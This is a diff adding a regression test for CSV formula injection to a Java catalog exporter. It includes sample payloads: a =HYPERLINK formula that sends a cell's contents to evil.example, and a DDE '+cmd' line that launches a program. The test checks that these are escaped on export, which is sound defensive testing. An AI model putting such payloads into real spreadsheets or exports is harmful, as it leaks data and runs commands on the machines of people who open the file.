@@ -26,7 +26,8 @@ class CatalogFormsTest {
 
   /** Text as people type it into a spreadsheet cell: commas, quotes, semicolons, line breaks, accents, spaces. */
   private static Gen<String> text(int min) {
-    Gen<Character> c = Generate.pick(List.of('a', 'Z', '7', ' ', ',', '"', ';', ':', '\n', 'é', '→', '-', '\'', '\t'));
+    Gen<Character> c = Generate.pick(List.of('a', 'Z', '7', ' ', ',', '"', ';', ':', '\n', 'é', '→', '-', '\'', '\t', '=', '+',
+        '@', '\r'));
     return lists().of(c).ofSizeBetween(min, 12).map(cs -> {
       StringBuilder b = new StringBuilder();
       cs.forEach(b::append);
@@ -124,5 +125,35 @@ class CatalogFormsTest {
     assertEquals(40L, read.entries().get(0).newPerMonth());
     assertEquals(List.of(new CatalogRead.Problem(2, "is not an object"),
         new CatalogRead.Problem(3, "'Colour' is not a catalog column")), read.problems());
+  }
+
+  /**
+   * Defect 18: cells beginning with '=', '+', '-' or '@' were written as they were, and a
+   * spreadsheet runs them (=HYPERLINK(...)). Now no cell of the written CSV begins with a formula
+   * character (each is behind an apostrophe), and reading gives back exactly what was written.
+   */
+  @Test
+  void formulaCells_areWrittenAsText_andReadBackExactly() {
+    CatalogEntry e = CatalogEntry.builder("=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")", "+cmd|' /C calc'!A0")
+        .from("@SUM(1+1)", "-2+3").to("'=already quoted", "\tTab").pattern(CatalogEntry.Pattern.OTHER)
+        .status(CatalogEntry.Status.PROPOSED).notes("\r=1+1").build();
+    StringWriter out = new StringWriter();
+    CatalogCsv.write(List.of(e), out);
+    String csv = out.toString();
+    try (com.fasterxml.jackson.databind.MappingIterator<String[]> rows = new com.fasterxml.jackson.dataformat.csv.CsvMapper()
+        .enable(com.fasterxml.jackson.dataformat.csv.CsvParser.Feature.WRAP_AS_ARRAY).readerFor(String[].class)
+        .readValues(csv)) {
+      while (rows.hasNext()) {
+        for (String cell : rows.next()) {
+          assertEquals(false, !cell.isEmpty() && "=+-@\t\r".indexOf(cell.charAt(0)) >= 0,
+              "a cell a spreadsheet would run: " + cell);
+        }
+      }
+    } catch (java.io.IOException x) {
+      throw new java.io.UncheckedIOException(x);
+    }
+    assertEquals(true, csv.contains("'=HYPERLINK"), csv);
+    assertEquals(true, csv.contains("''=already quoted"), csv);
+    assertEquals(List.of(e), CatalogCsv.read(new StringReader(csv)).entries());
   }
 }
